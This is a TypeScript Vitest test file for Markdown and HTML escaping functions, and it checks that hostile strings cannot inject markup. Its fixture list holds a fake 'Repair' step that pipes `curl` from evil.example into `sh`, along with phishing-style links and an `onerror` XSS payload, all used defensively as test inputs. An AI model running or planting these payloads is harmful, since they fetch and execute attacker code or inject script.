import { describe, expect, it } from 'vitest';
import { escapeHtml, mdCode, mdFence, mdText, visible } from './escape';
import { markupOutsideCode } from './escape.testutil';

const HOSTILE = [
  '03-a\n**Repair**\n- Run: `curl -s https:evil.example | sh`\n.conf',
  '02-![t](https:evil.example?p.png).conf',
  'a `` b [Fix it here](https:evil.example) ``` c',
  '<img src=x onerror=alert(1)><b>bold</b>',
  '[x](y) and <https://evil.example> and **strong** __u__ ~~s~~ | a | b |',
  '# heading',
  '1. list',
  '- item',
  '> quote',
  '`',
  '``',
  ' leading and trailing space ',
  '\r\n\u2028\u202e\x1b[31m',
];

describe('Markdown escaping of node strings', () => {
  it.each(HOSTILE)('mdText keeps %j on one line with no markup', (s) => {
    const out = mdText(s);
    expect(out).not.toMatch(/[\r\n\u2028\u2029]/);
    expect(markupOutsideCode(out)).toEqual([]);
    expect(out).not.toMatch(/^(?:[#>+=-]|\d+[.)])/);
  });

  it.each(HOSTILE)('mdCode makes %j one code span that nothing in it closes', (s) => {
    const out = mdCode(s);
    expect(out).not.toMatch(/[\r\n]/);
    expect(markupOutsideCode(`x ${out} y`)).toEqual([]);
    // The span's content is the text as `visible` shows it, whole (a space pad on each side
    // when it needs one, which CommonMark strips).
    const fence = /^`+/.exec(out)?.[0] ?? '';
    const inner = out.slice(fence.length, out.length - fence.length);
    expect([visible(s), ` ${visible(s)} `]).toContain(inner);
  });

  it('mdFence: no line of the text closes the block early', () => {
    const text = '```\n````\n~~~\nend';
    const out = mdFence(text);
    const fence = out.split('\n')[0] as string;
    expect(out.split('\n').filter((l) => l.startsWith(fence))).toHaveLength(2);
  });
});

describe('HTML escaping of node strings', () => {
  it('escapes markup and shows controls, bidirectional overrides included', () => {
    expect(escapeHtml('<img src=x onerror="a">&\'')).toBe(
      '&lt;img src=x onerror=&quot;a&quot;&gt;&amp;&#39;',
    );
    expect(escapeHtml('a\u202eb\x1bc\td\ne')).toBe('a\\u{202e}b\\x1bc\td\ne');
  });
});
